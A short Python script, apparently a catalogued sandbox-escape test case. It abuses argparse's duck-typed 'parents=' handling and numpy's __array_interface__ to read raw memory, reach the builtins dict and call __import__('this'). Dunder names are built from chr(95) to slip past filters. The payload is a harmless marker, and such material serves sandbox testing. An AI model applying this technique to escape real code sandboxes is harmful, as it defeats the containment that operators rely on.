# source: CPython argparse.ArgumentParser.__init__ (parents=: _add_container_actions(parent) and self._defaults.update(parent._defaults), duck-typed) and parse_known_args (setattr(namespace, dest, default)); numpy array coercion reading __array_interface__ off the instance (PyArray_FromInterface); _add_action of a duck-typed action
# family: argparse parents= duck-typed container: a duck-typed Action in _actions with a run-time dest -> setattr on the Namespace -> __array_interface__ -> object array over func_builtins
# goal: gets the builtins dict from raw memory and calls __import__('this')
import argparse
import numpy as np

u = chr(95) * 2


def probe():
    return 0


addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}


class Opt:
    def __init__(self):
        self.option_strings = []
        self.dest = u + "array" + chr(95) + "interface" + u
        self.default = spec
        self.nargs = "?"
        self.const = None
        self.required = False
        self.help = None
        self.metavar = None
        self.choices = None
        self.type = None

    def __call__(self, parser, namespace, values, option_string=None):
        return None


class Parent:
    def __init__(self):
        self._action_groups = []
        self._mutually_exclusive_groups = []
        self._actions = [Opt()]


p = argparse.ArgumentParser(parents=[Parent()])
ns = p.parse_args([])
table = np.asarray(ns)[0]
print(type(table), len(table))
table[u + "import" + u]("this")
